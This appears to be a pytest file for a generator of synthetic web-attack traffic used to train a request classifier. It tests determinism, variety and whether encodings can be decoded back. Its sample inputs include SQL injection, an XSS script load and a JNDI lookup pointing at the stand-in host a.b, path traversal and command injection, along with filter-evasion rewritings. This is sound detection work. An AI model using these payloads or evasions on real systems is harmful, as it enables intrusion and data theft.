"""The attack generator: deterministic, varied, families apart; encodings that decoding undoes."""

import random
import re

import pytest
from sklearn.feature_extraction.text import TfidfVectorizer
from sklearn.linear_model import LogisticRegression
from sklearn.metrics import roc_auc_score
from sklearn.model_selection import cross_val_predict
from sklearn.pipeline import make_pipeline

from models.requests.decoding import base64_text, decoded
from models.requests.parts import normalised
from traffic.grammars.attacks.pieces import COMMON, Grammar
from traffic.rows.attacks import ATTACKS, attack
from traffic.rows.evasions import ATTACKS_ONLY, ENCODINGS, EVASIONS
from traffic.rows.normals import NORMALS

SEEDS = 200
EITHER = {"{{config}}"}  # a probe, and a placeholder
PLAIN = (
    "1' OR '1'='1' -- x",
    '"><script src=//a.b/c.js>alert("hello")</script>',
    "../../etc/passwd",
    "john smith; cat /etc/hosts | grep root &",
    "${jndi:ldap://a.b/c}",
    "100% of \\ [what] {we} sell, ~5^2 #1 @home!",
)


@pytest.fixture(scope="module")
def written() -> dict[tuple[str, str], list[str]]:
    return {
        (family, name): [rule(random.Random(seed)) for seed in range(SEEDS)]
        for family, rules in ATTACKS.items()
        for name, rule in rules.items()
    }


def test_the_same_seed_gives_the_same_samples():
    once, again = random.Random(5), random.Random(5)
    assert [attack(once) for _ in range(300)] == [attack(again) for _ in range(300)]
    assert len({attack(once).value for _ in range(300)}) > 280


def test_every_family_and_rule_is_drawn():
    rng = random.Random(1)
    drawn = {(sample.family, sample.rule) for sample in (attack(rng) for _ in range(20_000))}
    assert drawn == {(family, name) for family, rules in ATTACKS.items() for name in rules}


def test_every_rule_writes_different_values_and_no_slot_is_left(written):
    for rule, values in written.items():
        assert all(value.strip() for value in values), rule
        assert len(set(values)) > SEEDS * 0.6, (rule, len(set(values)))
        left = [value for value in values if "‹" in value or "›" in value]
        assert not left, (rule, left[:2])


def test_no_value_belongs_to_two_families(written):
    family_of: dict[str, str] = {}
    for (family, name), values in written.items():
        for value in values:
            assert family_of.setdefault(value, family) == family, (value, name)


def test_no_value_is_also_a_harmless_one():
    """Values are compared as the model reads them, in more draws than other tests need."""
    attacks = {
        normalised(decoded(rule(random.Random(seed)))): (family, name)
        for family, rules in ATTACKS.items()
        for name, rule in rules.items()
        for seed in range(SEEDS, 5 * SEEDS // 2)
    }
    for family, rules in NORMALS.items():
        for name, rule in rules.items():
            rng = random.Random(11)
            drawn = {normalised(decoded(rule(rng))) for _ in range(3 * SEEDS // 2)}
            shared = drawn & attacks.keys() - EITHER
            assert not shared, (family, name, {value: attacks[value] for value in shared})


def test_no_whole_directory_filter_is_an_attack(written):
    assert _is_filter("(&(uid=joe)(|(mail=*)(!(cn=a))))") and not _is_filter("(a=*))(|(b=*)")
    for rule, values in written.items():
        if rule[0] == "ldap":
            assert not [value for value in values if _is_filter(decoded(value))], rule
    harmless = NORMALS["hn_query_dsl"]["whole_filter"]
    assert sum(_is_filter(harmless(random.Random(seed))) for seed in range(SEEDS)) > SEEDS / 2


def _is_filter(text: str) -> bool:
    """Whether ``text`` is one filter (RFC 4515), all its brackets closed."""
    text, found = re.sub(r"\([\w.:<>~-]+=[^()\0]*\)", "\1", text), 1
    while found:
        text, found = re.subn("\\([&|]\1+\\)|\\(!\1\\)", "\1", text)
    return text == "\1"


def test_short_values_are_neither_rare_nor_most_of_a_family(written):
    for family in ("sqli", "cmdi", "xss"):
        values = [value for rule, each in written.items() if rule[0] == family for value in each]
        short = sum(len(value) <= 24 for value in values) / len(values)
        assert 0.1 < short < 0.45, (family, short)


def test_request_lines_of_both_classes_have_the_same_scripts(written):
    inclusions = written["file_inclusion", "remote_line"]
    harmless = [NORMALS["hn_request_lines"]["script"](random.Random(n)) for n in range(SEEDS)]
    paths = [line.partition("?")[0] for line in (*inclusions, *harmless)]
    labels = [1] * len(inclusions) + [0] * len(harmless)
    model = make_pipeline(
        TfidfVectorizer(token_pattern=r"[a-z]+", binary=True), LogisticRegression(C=1)
    )
    guessed = cross_val_predict(model, paths, labels, cv=4, method="decision_function")
    assert 0.4 < roc_auc_score(labels, guessed) < 0.65


def test_no_value_is_plain_words_or_a_plain_path(written):
    words = re.compile(r"[a-z0-9_]{0,19}( [a-z0-9_]{1,19}){0,9}", re.IGNORECASE)
    path = re.compile(r"(/[a-z0-9_-]{1,25}){1,4}/?(\.(html?|jpg|png|css|js|pdf))?")
    sql = re.compile(r"\b(or|and|xor|union|order by|group by|having|like|select|rlike)\b", re.I)
    for rule, values in written.items():
        for value in values:
            assert not path.fullmatch(value) or rule[0] in ("probes", "traversal"), (rule, value)
            unmistakable = sql.search(value) or re.match(
                "(?i)__proto__|aced0005|ac ed 00 05|rO0AB|BAh", value
            )
            assert not words.fullmatch(value) or unmistakable, (rule, value)


def test_a_bound_slot_is_the_same_text_everywhere():
    rule = Grammar({}).rule("‹rand#1›=‹rand#1›;‹rand›")
    left, right = rule(random.Random(3)).split("=")
    same, other = right.split(";")
    assert left == same != other
    assert "rand" in COMMON


@pytest.mark.parametrize("name", [name for name in ENCODINGS if name != "base64"])
def test_decoding_undoes_an_encoding(name):
    changed = 0
    for text in PLAIN:
        assert decoded(text) == text
        for seed in range(40):
            evaded = EVASIONS[name](text, random.Random(seed))
            assert decoded(evaded) == text, evaded
            changed += evaded != text
    assert changed > 150


def test_base64_is_undone_or_not_done():
    for text in (*PLAIN, "a' or 1--"):
        for seed in range(20):
            evaded = EVASIONS["base64"](text, random.Random(seed))
            assert (evaded if len(text) < 12 else base64_text(evaded)) == text


def test_case_and_spacing_keep_the_letters():
    for text in PLAIN:
        rng = random.Random(text)
        assert EVASIONS["case"](text, rng).lower() == text.lower()
        assert "".join(EVASIONS["whitespace"](text, rng).split()) == "".join(text.split())
        assert text in EVASIONS["long_before"](text, rng)
        assert EVASIONS["long_after"](text, rng).startswith(text)


def test_rewritings_change_attacks_and_are_named():
    assert set(ENCODINGS) | set(ATTACKS_ONLY) <= set(EVASIONS)
    rng = random.Random(2)
    assert "/*" in "".join(EVASIONS["comments"]("1 or 1=1", rng) for _ in range(20))
    texts = {EVASIONS["concatenation"]("x' and name='admin'", rng) for _ in range(40)}
    assert any("'+'" in text or "'||'" in text or "concat(" in text for text in texts)
